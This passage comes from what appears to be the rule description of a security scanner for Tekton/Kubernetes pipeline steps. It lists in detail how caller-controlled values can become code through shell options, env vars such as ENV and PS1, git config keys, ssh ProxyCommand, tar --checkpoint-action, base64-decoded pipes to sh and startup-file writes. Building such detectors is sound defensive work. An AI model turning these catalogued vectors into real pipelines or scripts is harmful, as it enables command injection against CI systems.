      + 'git\'s commands, pagers and editors, `SSH_ASKPASS`, `LESSOPEN`, `RSYNC_RSH`, compilers, `KUBECTL_EXTERNAL_DIFF`, `CONFIG_SHELL`, `LUA_INIT`, `DOTNET_STARTUP_HOOKS`, the options tar, make and zip read from the environment (`TAR_OPTIONS`, `MAKEFLAGS`, `GNUMAKEFLAGS`, `ZIPOPT`: `--checkpoint-action=exec=…`, `--eval=…`, `-TT …`), git\'s `GIT_CONFIG_VALUE_<n>`, `GIT_CONFIG_KEY_<n>` and `GIT_CONFIG_PARAMETERS`, a variable a git command\'s `--config-env` reads as a key that runs code (`S="$X" git --config-env=core.sshCommand=S fetch`; the step\'s env var itself where it names it, `git --config-env=core.sshCommand=X fetch`, reported at the git command); `ENV` before the interactive shell it starts, `ENV="$X" sh -i`, which sources the file it names after parameter expansion, and `ENV` in a script that runs such a shell elsewhere, `export ENV="$X"` then `sh -i` (sh, dash, ash, ksh, mksh, pdksh or yash given an option group holding `i`: dash 0.5.12 sources it; busybox\'s applet too, `busybox sh -i`, and `busybox ash +i`, which busybox 1.36 ash.c reads as `-i`; bash -i in posix mode, `bash --posix -i`, `bash -o posix -i` or `POSIXLY_CORRECT` or `POSIX_PEDANTIC` assigned in the script or set in the step\'s env, bash 5.2 shell.c, and an interactive bash whose posix mode is not seen is reported too, saying so: `POSIXLY_CORRECT` in the image\'s env or an `envFrom` source, neither of which the rule sees, turns it on, and a bash kept from running the value only by what the rule cannot see is refused); `PROMPT_COMMAND` in a script that runs an interactive bash that reads its commands (`bash -i < cmds.txt`, or `sh -i`, which is bash in some images: an option group holding `i` and none holding `c`), which runs it before each prompt (bash 5.2); the step\'s own `ENV`, `PROMPT_COMMAND` or prompt (`PS1`, `PS2`, bash\'s `PS0`) env var holding such a value where its script runs such a shell (`bash -i < /dev/null`, `sh -i < cmds`: dash 0.5.12 and bash 5.2 expand a `PS1` of their environment), reported at that shell; a shell\'s options are read as bash 5.2 and dash 0.5.12 read them, every option group before its first operand, long options (bash\'s with one dash too, `-norc`, `-rcfile FILE`), past the values of `-o`, `-O`, `--rcfile`, `--init-file`, `--` or `-` ending them (`sh -e -i`, `bash --norc -i`, `dash -eo errexit -i`); '
      + 'a shell\'s options read as it reads them, past the values of `-o`, `-O`, `--rcfile` and `--init-file` (`bash -O extglob -i`, `sh -o vi -i`), in the string of `env -S` too (`env -S \'bash -i\'`), through every wrapper (`chroot / bash -i`, `runuser -u b -- bash -i`), a program a variable names taken for either shell (`"$SHELL" -i`, `"$BASH" -i`, `${SH:-sh} -i`; but one the step\'s env gives literally, below), and `env ENV="$X" sh -i` as the shell\'s own assignment; a word the script\'s shell expands read as it expands it (dash 0.5.12, bash 5.2): a variable the step\'s env gives a literal value, where the script writes no such name, as that value in any word (`sh $V` with `V` set to `-i` is `sh -i`, the value of an unquoted `$V` split into words, none where it is empty; `$S -i` with `S` set to `dash` runs dash, set to `python3` no shell; `env -S "sh $F"` gives env `sh -i`), any other in an option word as unset (`sh -${UNSET}i` is `sh -i`, `sh -${V:-x}i` is `sh -xi`, `sh -e${V:+i}` is `sh -e`; `${V:?msg}` runs no shell; `-${#V}i` is `-0i`, which the shells refuse), `${V}`, `${V:-word}`, `${V-word}`, `${V:+word}`, `${V+word}`, `${V:=word}`, `${V=word}`, `${V:?word}` and `${#V}` read, the word\'s quotes removed (`-${U:-"i"}` is `-i`), POSIX\'s trimming of a value read too (`${V#x}`, `${V##*/}`, `${V%x}`, `${V%%x*}`: `sh -${V#x}` with V=xi is `sh -i`), a variable the script assigns a literal value read with each such value (`O=i` then `sh -$O` is `sh -i`), and bash 5.2\'s substring, case and replacement (`${V:1}`, `${V:0:2}`, `${V,,}`, `${V^^}`, `${V/x/i}`, `${V//x/i}`, `${V/#x/i}`, `${V/%x/i}`) read as the shell that runs the code expands them, by its `#!` line (`#!/bin/busybox sh` too) or the command that runs it (`dash -c`, `busybox sh -c`, `mksh <<EOF`), and in code it runs in the same shell (`eval`): bash all of them; dash 0.5.12 none ("Bad substitution", and no command after: `sh -${V:1}` there starts no shell); busybox 1.35\'s ash and mksh 59c (ksh93u+m 1.0.4 too) substring and replacement but not case (`${V,,}` stops them, "bad substitution"), busybox\'s ash reading a pattern\'s leading `#` or `%` as a character (`${V/#x/i}` of `#xe` is `ie`), the others as anchoring it (of `xe`, `ie`); code of `sh`, which is bash, dash or busybox\'s ash by the image, or of a shell not checked, read both as bash and as ash (all checked); PATH, HOME and HOSTNAME, which every container holds, read as set (`sh -e${PATH+i}` is `sh -ei`; dash 0.5.12 sourced ENV under each); a variable whose value is not known here read as empty and as any value, the finding saying so where only such a value makes the shell interactive (`…; $O may hold a value not known here (…), which may make the shell interactive (-i)`): one the step\'s env gives from `valueFrom` or a substitution (`sh -$V`, `sh -e${V+i}`), one the script gives what `read`, a command substitution or a loop gives (`read O < f` then `sh -$O`, `O=$(cat f)` then `sh -e$O`, `for O in …`, in eval\'s code and in code it runs in a shell too, `sh -c \'read O < f; sh -$O\'`; not a path: a value starting with `/`, `$(mktemp)`, `$(pwd)`, `$(command -v docker)`), and, in a step with an `envFrom` source, whose keys are not known here, any other variable but one the script assigns a literal value first, alone and unconditionally (`O=e` then `sh -$O`): `sh -e${V+i}` with V from the ConfigMap is `sh -ei` (dash 0.5.12 sourced ENV with V=i in its environment); `-c` with no code after the options starts no shell (dash 0.5.12 and bash 5.2 refuse it); a word holding another expansion (`${V/x/i}`, `$1`) kept as written, and so is an operand holding a variable the step gives no literal value; and the string of `env -S` split as GNU env 9.1 splits it (`env -S "sh\\\\_-i"` runs `sh -i`), its `${NAME}` read as the value the step\'s env gives NAME literally where the script writes no NAME (env expands it from the script\'s environment: `env -S \'sh ${F}\'` with the step\'s `F` set to `-i` runs `sh -i`), and as each literal value the script gives NAME (`export F=-i`, `F=-i env -S \'sh ${F}\'`, `env F=-i env -S …`: dash 0.5.12 sourced ENV under each), else as empty, and, for a variable whose value is not known here (read below: `read F`, `F=$(cat f)`, an envFrom source\'s), as any value, the finding saying so; a shell that env (GNU\'s, busybox\'s) starts without the variable (`env -i`, `env -`, `env -u ENV`, `env -u PS1`) gets none of the script\'s or the step\'s value (`export ENV="$X"` then `env -i sh -i` is no finding), while env\'s own `NAME=VALUE` after `-i` reaches it (`env -i ENV="$X" sh -i`); '
      + 'the admission policies, which cannot read shell, refuse a script (but its `#!` line) or the code an interpreter is given (`sh -c \'…\'`) that starts a shell by its name '
      + 'with an option group holding `i` (`+i` too), `--interactive` or `-o interactive`, or a word there that starts with an expansion (`sh -$O`, `sh $FLAGS`, `sh "$@"`, `env -S \'sh ${F}\'`) '
      + 'before a group holding `c`, or a program a variable names with such a group (`"$SHELL" -i`), where `ENV`, `PROMPT_COMMAND`, `PS0`, `PS1` or `PS2` (the step\'s, its stepTemplate\'s, or env\'s `NAME=VALUE`) holds a caller\'s value, '
      + 'whatever value the script gives it (`O=e` then `sh -$O` is refused there); `sh -c "$CMD"` is given code, not an option, and is not refused for it; '
      + '`complete -C`\'s command, which an interactive bash runs to list completions when its input holds a tab (pcomplete.c), wherever it stands; '
      + 'what a program runs through its options or configuration (git 2.39, OpenSSH, GNU tar, rsync, zip, wget and GNU make as their manuals and sources read them): '
      + 'a KEY=VALUE of `git -c` or clone\'s `--config`/`-c`, and the KEY and VALUE `git config` (or `git config set`) sets (not with `--get`, `--unset`, `--list` …), '
      + 'whose key the value writes (`git -c "$X"`, `git config "$X" v`) or whose key runs its value (`core.sshCommand`, `core.pager`, `core.editor`, `core.fsmonitor`, '
      + '`core.hooksPath`, `core.askPass`, `core.gitProxy`, `sequence.editor`, `pager.*`, `alias.*`, `credential.helper`, `diff.external`, `diff.*.textconv`, '
      + '`merge.*.driver`, `filter.*.clean`/`smudge`/`process`, `gpg.program`, `protocol.allow` and `protocol.*.allow`, `include.path`, `includeIf.*.path`, '
      + '`remote.*.uploadpack`/`receivepack`/`vcs`, `difftool.*.cmd`, `submodule.*.update` …; section and key in any case); `git --config-env`\'s key and `--exec-path`; a value that starts the word where git\'s sub-command stands (`git "$X" fetch`, `git -C src "$X" fetch`): git 2.39 reads one starting with `-` there as a global option (`--exec-path=DIR` runs its programs from DIR, `--config-env=core.sshCommand=VAR` runs the value of VAR); '
      + 'the value of clone\'s (`-u`, `--upload-pack`), ls-remote\'s (`--upload-pack`, `--exec`), fetch\'s and pull\'s `--upload-pack`, push\'s `--receive-pack`/`--exec`, archive\'s `--exec`, fetch-pack\'s `--upload-pack`/`--exec`, '
      + 'clone\'s `--template` (its hooks), rebase\'s `-x`/`--exec`, difftool\'s `-x`, filter-branch\'s filters, the command of `git submodule foreach` and `git bisect run` '
      + '(long options by any start of their name; a short one also last in a group of flags or glued after them, `git clone -qu "$X"`, as parse-options reads it, '
      + 'and so tar\'s and rsync\'s and wget\'s, `tar -xI "$X"`, and tar\'s traditional options, whose letters take the next arguments in turn, `tar xIf "$X" a.tgz`); a value that starts an operand of clone, fetch, pull, ls-remote, push, fetch-pack or send-pack before `--` (not the value of an option '
      + 'that takes one, `--branch "$X"`): git reads `--upload-pack=CMD` there as that option and runs CMD (locally for a local repository; `git clone -- "$X"` is data; '
      + 'so is a quoted variable the script assigns only values that start with literal text other than `-`, `D="/packages/$X"` then `git clone "$U" "$D"`, '
      + 'unless the step\'s env gives it or `read` assigns it; unquoted, the shell splits it, and git reads a later word starting with `-` as an option wherever it stands, reported as such: `R="https://host/$X"` then `git clone $R out`, where over https git runs no upload-pack but `-c credential.helper=!CMD` runs CMD as it asks for credentials, git 2.39, the fix naming the variable written, quoted and after `--`); '
      + 'after `--` too where a `-c protocol.allow` or `protocol.ext.allow` of the same command (or its `--config-env` of either key, or clone\'s `-c`/`--config`, which the new repository\'s fetch reads), or a `git config` of either anywhere in the script (`git config --global protocol.ext.allow always`; through `env -S` too, its string split as GNU env splits it: `env -S "git\\\\_config\\\\_--global\\\\_protocol.ext.allow\\\\_always"`), allows other than never (in any case), '
      + 'or the script sets git\'s environment so (`GIT_ALLOW_PROTOCOL` listing `ext` or holding a variable, `GIT_CONFIG_PARAMETERS` or `GIT_CONFIG_KEY_<n>` holding either key) or writes a text of configuration that sets it (`[protocol "ext"]` or `[protocol]`, then `allow =`, wherever the text is) (an `ext::` URL runs its command; git\'s '
      + 'default is never; git 2.39 transport.c), and then the URL of `git submodule add`, `git remote add` and `git remote set-url` wherever it stands (git fetches it then or later); git where a variable names it and a git sub-command that runs code follows (`"$GIT" clone`, `${G:-git} config`, `"$(command -v git)" fetch`), and a `git config` xargs runs with the value it reads; ssh\'s, scp\'s and sftp\'s `-o` option whose name the value writes or that runs its value (`ProxyCommand`, `LocalCommand`, '
      + '`KnownHostsCommand`, `RemoteCommand`, `Match`, `Include`, `PKCS11Provider`, `SecurityKeyProvider`) scp\'s and sftp\'s `-S`, sftp\'s `-D` and `-s`; rsync\'s `-e`, `--rsh` and `--rsync-path`; tar\'s `--to-command`, `-I`/`--use-compress-program`, `--checkpoint-action`, `-F`/`--info-script`, '
      + '`--new-volume-script`, `--rsh-command` and `--rmt-command` (and its old style, `tar xIf CMD a.tar`); zip\'s `-TT`/`--unzip-command`; wget\'s `-e`/`--execute` and `--use-askpass`; make\'s '
      + '`--eval`/`-E` (a short option of these, as of git\'s sub-commands, also in a group of flags, its value glued or next: `ssh -vo ProxyCommand=…`, `rsync -ave CMD`, `git clone -qu CMD`), an assignment `NAME=VALUE` whose name or value holds it (a recipe pastes the variable into the shell commands it runs; `SHELL=` '
      + 'chooses the shell) and a value that starts a word that is no option\'s value (one holding `=` is an assignment, one starting with `-` an option); '
      + 'and the code of `-c` given to a program a variable names (`"$SHELL" -c "$X"`: it may be a shell); and a startup file a command writes it to '
      + '(`echo "$X" >> ~/.profile`, `$HOME/.bashrc`) that a login shell (`-l`, `+l`, which bash 5.2, dash 0.5.12 and busybox 1.36 ash read as `-l`, `--login`, `bash -lc`, `busybox sh -l`: `~/.profile`, `~/.bash_profile`, `~/.bash_login`, '
      + '`/etc/profile`) or an interactive bash (`-i`: `~/.bashrc`, `/etc/bash.bashrc`) sources at start, or a file of git configuration a git command then reads (`~/.gitconfig`, `~/.config/git/config`, `/etc/gitconfig`, `.git/config`, the file `GIT_CONFIG_GLOBAL`, `GIT_CONFIG_SYSTEM` or `GIT_CONFIG` names, or an `include.path` or `includeIf.<cond>.path` anywhere in the script: `echo "$X" >> ~/.gitconfig` then `git fetch`, reported at the first git command), or a file of ssh configuration (`~/.ssh/config`, `/etc/ssh/ssh_config`, the file of ssh\'s, scp\'s or sftp\'s `-F`) ssh, scp or sftp, or git or rsync (which run ssh for a remote over ssh) then reads, or a makefile make then reads (`GNUmakefile`, `makefile` or `Makefile` of its directory where no `-f` or `-C` is given, or the file of `-f`, `--file`, `--makefile`: its recipes and `$(shell …)` run commands); and `-F <(…)` given the value; ssh\'s configuration read from its input where `-F` names its descriptor 0 (`ssh -F /dev/stdin host <<< "$X"`, `-F /dev/fd/0`, `-F /proc/self/fd/0`, also grouped or glued, fed by a here-string, heredoc, pipe, process substitution or an `exec` before it: OpenSSH 9.2 reads it as a file, while scp and sftp give ssh their own input and ssh closes descriptors above 2 at start); sftp\'s commands, read from its input (a here-string, a pipe, `-b -`) or the file of `-b` (also in a group of flags or glued, `-qb FILE`, `-bFILE`, and a process substitution, `-b <(echo "$X")`), whose `!command` runs in a local shell. Each is found through wrappers and runners as in `command` and '
      + '`args` (`timeout 5m sudo -u b bash -c "$X"`, `find . -exec sh -c "$X" \\;`), in the command xargs runs with what it reads '
      + 'appended or put in place of its replace-string (`echo "$X" | xargs sh -c`, `xargs -I{} sh -c "make {}" <<< "$X"`; not '
      + 'with `-a FILE`; the program xargs runs reads /dev/null, GNU xargs 4.9, so what is piped to xargs is never its code from its input, `echo "$X" | xargs python3` runs the file the value names and `echo "$X" | xargs bash -s` no code, but with `-a FILE`, where it keeps xargs\' input), in code the script runs in a shell in turn '
      + '(`sh -c \'eval "$X"\'`: the child shell has the env) and in command substitutions. A variable the script assigns from '
      + 'one (`Y="$X"`, `Y=$(cmd "$X")`, `export`, `local`, `declare`, `readonly`, the assignments before a command, '
      + '`for Y in "$X"`, `printf -v Y FORMAT "$X"`, the OPTARG `getopts OPTSTRING NAME -b "$X"` gives (an option\'s value from the ARGs '
      + 'given, or with none from the positional parameters, in bash and dash, as a loop of getopts reads them: the value of an option OPTSTRING says takes one, and a word not literal where an option may start, and those after it, `-b"$X"`, `-a "$X"` with X `-bCODE`; none after an operand or `--`, where getopts stops, `getopts ab: O file "$X"`, nor where no letter of OPTSTRING takes a value and it does not start with `:`, OPTARG then unset; NAME only gets a letter of OPTSTRING or `?`), what `read` or `mapfile` reads from a here-string, an unquoted heredoc, '
      + '(also behind `builtin` or `command`, which run them, not behind `command -v`, which names them) '
      + 'a process substitution or a pipe whose commands write it, or that the closing word of a loop or group around it is given: '
      + '`while read -r Y; do …; done <<< "$X"`), wherever it assigns it, counts as it does (the finding\'s fix naming that variable, '
      + 'which the command writes: `Pass "$Y" as data`, `pass "$Y" to the program only as data`; make\'s naming the env var, which its recipe reads), as does a name that refers to one '
      + '(`declare -n R=X`, `P=X` then `${!P}`, and a function\'s `${!1}` where every call passes a literal name there, `f() { eval "${!1}"; }; f X`: bash 5.2 runs the value of X, with `f HOME` that of HOME, the body shifting and setting nothing) and the variable a nameref names where the script assigns one through it '
      + '(`declare -n R=N` then `R="$X"`, `read R`, `printf -v R`), what `select Y in "$X"` picks, each element of an array a loop runs '
      + 'over whole (`arr=("$X"); for c in "${arr[@]}"`), what `printenv Y` or `env` prints of an exported one or one assigned before it (an export reaching the commands after it, in a loop with it or in a function, '
      + 'and in its own subshell only, not from a pipeline or the body of a function never called: `printenv Y | sh` then `export Y`, `(export Y)`, `export Y | cat` do not) '
      + '(`eval "$(printenv Y)"`, `printenv Y | sh`, `env | sh`, whose lines `NAME=VALUE` the shell runs as assignments, command '
      + 'substitutions included: bash 5.2), what a program that prints text it derives from its input prints of it (`echo "$X" | base64 -d | sh`: '
      + 'base64, base32, tr, sed, awk, grep but for `-c`, `-q`, `-l`, `-L`, jq, yq, rev, cut, head, tail, sort, uniq, openssl …; not a program not known here), '
      + 'and, saying it may, an indirection or a nameref whose name the script builds or reads (`N+=Z`, `read N`, `printf -v N`, a loop over '
      + '`${!P*}`, `$1`: `eval "${!N}"`, `local -n R=$1` then `eval "$R"`), which may name any variable, one holding such a value among them; '
      + 'an array whose first element holds one is the program where a word expands it whole (`a=("$X" -u); "${a[@]}"`), and `eval` runs every '
      + 'element of one it is given; an element of an array a compound assignment gives one is read by the index bash gives it (`a=(ls "$X"); '
      + 'eval "${a[1]}"`; any index past an element the shell may split, or appended with `+=`), where a word expands it (`${a[$i]}`, '
      + '`b=("${a[@]}")`, getopts given `"${a[@]}"`, the positional parameters `set -- "${a[@]}"` or a call gives, by position), through a nameref '
      + 'declared with its name (`declare -n r=a; eval "${r[1]}"`), and of what `printf %q` quotes of it (`"$(printf \'%q \' "${a[@]}")"`, quoted or not) or bash\'s `${a[@]@Q}` quoted (`eval "${a[@]@Q}"`) only the first as code, but every element of `${a[@]@Q}` not quoted, which the shell splits at blanks and expands as patterns, so a file name a piece matches may close a quote (`eval ${a[@]@Q}`: bash 5.2 with a file `q\';id;\'\'` and an element `a *` runs id); every sink and declaration reads the same behind `builtin` and `command` (`builtin eval "$X"`, '
      + '`command declare "$X"`, `builtin mapfile -C "$X"`, `command export Y="$X"`), not behind `command -v` or `-V`, which only look a name up, '
      + 'and the code of a command given assignments before its program is read as without them (`Y="$X" bash -c \'eval "$Y"\'`); '
      + 'what ssh reads from its input where it gives it to a shell on the remote host, given no remote command or a shell given no code '
      + '(`echo "$X" | ssh host`, `ssh host bash -s <<< "$X"`; not with `-n`, `-f`, `-N`, `-W`, `-s`, `-O` or `-F -`), '
      + 'and so do the positional parameters it is passed as: `$1` … (and `$@`, `$*`) of the code of `sh -c CODE NAME '
      + 'ARG…` (NAME is `$0`; what xargs appends there too: `echo "$X" | xargs sh -c \'eval "$1"\' _`) or `sh -s ARG…`, of the script after `set -- ARG…` '
      + '(whose own words expand the ones before it: `set -- "$*" "$X"` gives X as `$2`; in a function\'s body, the body\'s), and of a shell function of the script '
      + '(`f() { eval "$1"; }; f "$X"`; after a `shift` that runs once whatever ran before, its count literal, the position that many further on '
      + '(`shift N` none where fewer are left: any between), after any other `shift`, or after a loop begins in a body that `shift`s, every position: '
      + '`local max=$1; shift` reads the call\'s first argument; `"$@"` and `"$*"` hold the positions from `$1` on (never `$0`) past those such shifts moved out, a slice `"${@:N:L}"` the L from the N-th of them, '
      + '`f() { shift; eval "$@"; }; f "$X" a` runs none; `"$@"` run as a command chooses the program only '
      + 'from `$1`, and where the words it gives are written (`sh -c \'exec "$@"\' -- bash -c "echo $(params.x)"`, a script `"$@"` given such `args`, '
      + '`retry() { until "$@"; do sleep 1; done; }; retry sh -c "echo $X"`) they are read as the command they make (the code of `bash -c`, '
      + '`python3 -c`, `eval`); but unquoted `$@`, `$*` or `$1` standing first in a command drop the leading ARGs written empty (`\'\'`), as the shell drops an unquoted empty field, so the next one is the program (`sh -c \'$@\' sh \'\' "$X"`, `sh -c \'$1 $2\' sh \'\' "$X"`; in `command` and `args` too); a `set` written over lines, `set -- \\` then its words, read as one). So does an argument the script (`args`, its `$1` …) or the code of `sh -c CODE NAME ARG…` in `command` '
      + 'and `args` (NAME its `$0`) gets as a positional parameter, where it holds a substitution callers can choose as above '
      + '(the kubelet\'s `$(NAME)` of such an env var too): a finding at the first command that runs it as code, once per '
      + 'argument (`args: [$(params.x)]` with `eval "$1"`). An element Tekton expands from an array (`$(params.list[*])`, the '
      + 'whole element) is any number of arguments: from its place on (to `$32`), each positional parameter may be one of its '
      + 'elements or a later element, the first of them that holds such a value (`args: [$(params.list[*])]` with `eval "$2"`); so is, '
      + 'in a Pipeline\'s task spec, a whole `$(params.<p>)` of a param the pipeline does not declare a string or an object: Tekton '
      + 'v1.15 propagates the params a run gives into the task spec and expands such an element from an array (`propagateParams`, '
      + '`ApplyArrayReplacements`), refusing a run\'s array only for a param the pipeline declares of another type, and a '
      + 'TaskRun\'s for a Task\'s string param (`ValidateParamTypesMatching`, `validateParams`); and, in the task spec of a '
      + 'PipelineRun\'s own `pipelineSpec` (or of a pipeline task\'s `pipelineSpec`, whose child run is given the task\'s params), '
      + 'one of a param the run gives as an array, or, given none, that the pipeline declares an array (`paramsFromPipelineRun`, '
      + '`buildUnresolvedArrayParamDefaults`; a run\'s param the pipeline does not declare included). In arithmetic, a variable is read as a number where it holds only the output of commands that print numbers '
      + 'whatever they read (`N=$(echo "$X" | wc -l)`, `wc -c <<< "$X"`, jq or yq whose filter ends in `| length` (or `length // 0`), '
      + '`date -d "$X" +%H` and other formats of numeric fields alone, `|| echo 0`), not of those that copy what they read (`echo`, `printf`, `cat`, `tr`, `sed`, `head`, `cut`, `jq -r .x`, '
      + '`grep -c`, which may print file names); a command substitution written in the arithmetic is read the same way, for what it prints '
      + '(`[[ $(echo "$X" | wc -w) -gt 1 ]]` evaluates a count; `$(( $(echo "$X") + 1 ))` the value), and after a test against an anchored pattern of digits whose failing ends the script or '
      + 'gives the variable a literal number (`if ! [[ "$N" =~ ^[0-9]+$ ]]; then …; exit 1; fi`, `…; N=1; fi`, '
      + '`[[ $N =~ ^[0-9]+$ ]] || exit 1`, `|| { …; exit 1; }`, `|| N=1`, `|| { …; N=1; }`) at the script\'s top level, when no caller\'s value is given '
      + 'it after the test (a test that may fail and go on, one in a function or a loop, or after the arithmetic, does not count, nor an `exit` bash runs in the background, a coprocess or a pipe, or with a redirection other than to /dev/null, which may fail and let bash go on; `! !` inverts the test twice); '
      + 'so in the code a shell the script starts runs as its own (`sh -c \'[[ $N =~ ^[0-9]+$ ]] || exit 1; echo $((N))\'`, a '
      + 'shell\'s input), for that code\'s own top level, when nothing in that code, nor in the code it runs in turn, gives it a caller\'s value after the '
      + 'test: under busybox ash, whose `[[` splits an unquoted `$N` (`! a[$(cmd)]` passes the test), arithmetic runs no command '
      + '(ash has no arrays), so the test holds for the code of the same shell, never for a bash it starts. '
      + 'Data are any other word: a quoted argument (`echo "$X"`, `printf \'%s\' "$X"`), the positional parameters the code '
      + 'never runs (`sh -c \'echo "$1"\' _ "$X"`), single-quoted code (`eval \'echo "$X"\'`), the arguments of a script file '
      + '(`python3 build.py "$X"`), awk\'s `-v` assignments (but one whose variable awk\'s literal program runs as a command, `awk -v c="$X" \'BEGIN { system(c) }\'`, `c | getline`, `print | c`, '
      + 'as it runs `ENVIRON["X"]` so: gawk 5.2, mawk 1.3.4; expect\'s `-c` commands, Tcl, before its script file, are code; so are gdb\'s commands, which it runs as typed at its prompt (`shell`, `!`, `pipe`, `python`): `-ex`, `-iex`, `--eval-command=` and the prefixes gdb 13 takes (`-ev`, `-init-e`), and vim\'s Ex commands (`:!` runs a shell), `-c CMD`, `-cCMD`, `+CMD`, `--cmd CMD`, and, for both, an argument a value starts before their options end (`gdb "$X"`, `vim -es "$X"`: a value `--eval-command=shell …` or `+!…` is that option), both reading options after their operands, up to `--` (gdb\'s `--args` too); vim\'s `-s` takes a file but where `ex` or `-e` starts Ex mode); the job `at` and `batch` read from their input, which atd runs with /bin/sh (at 3.2; not with `-f FILE`, `-l`, `-r`, `-d` or `-c`: `echo "$X" | at now`), where the image runs atd, which the rule cannot see, a quoted heredoc, `[ "$X" -eq 1 ]` (test compares numbers it '
      + 'does not evaluate), `[[ "$X" == y ]]`, and `${#X}`. '
      + 'A script a step\'s script writes into a file from a literal is read too, as shell (its `#!` line, or the shell that runs it, naming one), '
      + 'where that script runs the file after writing it, or a later step of the same task does (its script, or its `command`, whose `args` '
      + 'are the file\'s positional parameters): what `base64 -d` (`--decode`, `-D`; `-i` skipping what is not of the alphabet) decodes from a '
      + 'literal that `printf` or `echo` pipes to it, or a heredoc or here-string gives it (`printf \'%s\' "<base64>" | base64 -d > /scripts/run.sh`, '
      + 'as coreutils 9.1 decodes it: line breaks ignored; a literal it stops at, with a character outside the alphabet or without its padding, '
      + 'is not read), and what `printf`, `echo` or `cat` of a heredoc that expands nothing writes (`cat > f <<\'EOF\'`, `echo \'…\' > f`, `>>` adding to it); '
      + 'run as `./f`, `/scripts/run.sh`, `bash f`, `sh f`, `source f`, `. f` or through `exec` and the other wrappers, by the path written (a relative one '
      + 'under the step\'s literal `workingDir`; in another step, only a file under `/workspace`, a workspace\'s `mountPath` or the mount path of a '
      + 'volume both steps mount there, since each step is a container of its own). It is read with the env of the step that runs it, and a finding '
      + 'is placed at the writing step\'s `script`, saying which file it writes, how, and which step runs it. A literal of more than 512 KiB is not read.',
    limits:
      'Only listed program names count as interpreters: a renamed binary, a tool that runs one of its option values as a '
      + "command in `command` and `args` (`git --upload-pack=...`: ARGUMENT_INJECTION judges those), or an interpreter that the image's entrypoint starts (no `command`) is not "
      + 'recognised; ARGUMENT_INJECTION covers the last case. A caller\'s value that starts an operand is read as an option of tar, wget and rsync, '
      + 'which read options after their operands (`tar -xf a.tar "$X"`, X=`--to-command=CMD`), and of zip where `-T` has it test the archive (`zip -T a.zip f "$X"`, '
      + 'X=`--unzip-command=CMD`); without `-T` one word of zip\'s cannot run a command. The words the shell splits an unquoted value into are read as find\'s expression '
      + '(`find /src $X` with X=`-exec CMD ;`) and as later options of tar, wget, rsync and zip (`tar -xf a.tar src/$X`, `zip -r a.zip src/$X` with X=`a -T -TT CMD`, also where the shell split it before, into the positional parameters `"$@"` gives '
      + '(`set -- $X; find . "$@"`, any position it gives) or an array\'s elements `"${A[@]}"` gives (`A=($X)`, `read -ra A <<< "$X"` at blanks, `mapfile -t A` at lines; without `-t` each element keeps the line break ending it, which find reads as no test or action, but the last line of what may end without one), '
      + 'or xargs split what it reads, `echo "$X" | xargs find`; a loop\'s '
      + 'variable, `for d in $X; do find $d; done` (or an array\'s element the shell split from it, `args=(a $X); find . ${args[1]}`), is one word at a time where the script turned off patterns before (`set -f`, `set -o noglob`, '
      + 'run whatever ran before, never undone by `set +f`), one test or action of find\'s: `-delete`, never `-exec CMD ;` (else a word `*` gives the names in the working directory it matches, one holding blanks, `-exec touch F ;`, '
      + 'split again: reported as code, as the value of a test too); so is a quoted value whole, or a quoted array element the shell split from it or gave it whole (`args=(a $X); find . "${args[1]}"`), where find '
      + 'reads a path, a test or an action, `find "$X"`, `find . "$X"`, `set -- $X; find . "$1"`, or a quoted word bash may expand to it whole, `find "${X%/}"`, '
      + '`find "${X:-.}"`, `find "$(echo "$X")"` or backquoted, `find "${!N}"` of `N=X`, `declare -n R=X; find "$R"` (not `find "./${X}"`), but not a test\'s value, `-name "$X"`, a word of `-exec`\'s command, '
      + 'nor anything where a `--` stands past find\'s own options, which findutils 4.9 refuses as an unknown predicate, `find . -- $X`). Positional parameters run as a command line are read from a quoted `"$@"` (`exec "$@"`, '
      + '`"${@:N}"`, `"$1" "${@:2}"`, after `exec`, `command` or `env`) standing alone in a command of the code of `sh -c`, of a script given `args`, or of a function\'s body (from `$1` there, `$N` for `"${@:N}"`, '
      + 'past the literal `shift`s before it, from each position one that may not run leaves, `[ -n "$1" ] && shift`; not in a function\'s body for the code\'s own, nor after `set -- WORD…`); an unquoted `$@` or `$*` alone is read so too, each parameter '
      + 'one word (the further splitting of a parameter is not rebuilt). In a script, `source`, `.`, `eval` and `trap` count as the shell\'s '
      + 'builtins only where the shell runs them (alone, or after `command`, `builtin` or `time`): a wrapper that execs its program '
      + '(`sudo -C 4 source /dev/fd/3 3<<< "$X"`, `env eval "$X"`, `timeout 5 source F`, xargs) runs a file of that name from PATH, '
      + 'which no usual image has; an image that ships one is not read. A substitution is refused wherever it sits in a script, a '
      + 'comment or quoted heredoc included. What a script does with an env var is read only in a shell script, and only for the '
      + 'commands above: a script in another language (`#!/usr/bin/env python3` with `exec(os.environ["X"])`, node\'s '
      + '`eval(process.env.X)`) is not read; nor is `envFrom`, nor a `valueFrom` from another source (a fixed ConfigMap\'s key, '
      + 'the pod\'s name or namespace); nor a label\'s `$(NAME)` in `command` and `args` outside the places above (the arguments '
      + 'of a program a runner runs that is no interpreter, `xargs echo $(TOOL)`, are data; the program itself, `command: [$(TOOL)]`, '
      + 'is ARGUMENT_INJECTION\'s). The admission policies, which cannot read the code, refuse more: a label\'s `$(NAME)` (or, in a container that has one, that of any env var whose value holds a `$(…)` reference: every copy, and copy of a copy, of a label) anywhere in the code of a shell and in every argument after it (`sh -c \'echo $(TOOL)\'`, `sh -c \'echo "$1"\' _ $(TOOL)`), in a script\'s `args`, in another interpreter\'s arguments before its first operand (`python3 -W ignore -c …`, not `python3 build.py $(TOOL)`), in any argument after groovy, julia, elixir, expect, erl or jshell (`elixir a.exs $(TOOL)` too) and in the string of `env -S` and the arguments after it; and a caller\'s value in any argument of sed, awk, kubectl, docker, podman, nerdctl and helm, whose input files and data arguments the catalogue reads as data (`sed -i -e SCRIPT /src/$(params.file)`, `kubectl delete pod build-$(params.id)`, `podman pull docker://registry/app:$(params.tag)`, `docker build -t app:$(params.tag) .`, `helm upgrade r ./chart --set image.tag=$(params.tag)`). The arguments after the script file of iex, guile, racket, sbcl, clisp and the other interpreters without a file reading here (unlike python, node, perl, ruby, php, lua, R, tclsh, wish, expect, groovy, julia, elixir and escript) are still read as code, as are all of erl\'s, jshell\'s and mix\'s (erl reads its flags anywhere, `erl -noshell foo -eval E`; jshell every later argument as a flag or a file to load; a word of mix\'s may be an option of its task that runs code, `mix run $(TOOL)` with the value `--eval=CODE`). A caller\'s value that is jq\'s last operand, where the program imports no module, is data: a value `-f` there makes jq read its program from the file the program\'s text names in the working directory (`jq .a $(params.x)` runs the file `.a`), which a caller who can also place that file (a workspace) may write; not judged. Nor is the program text of jq read, or of yq without 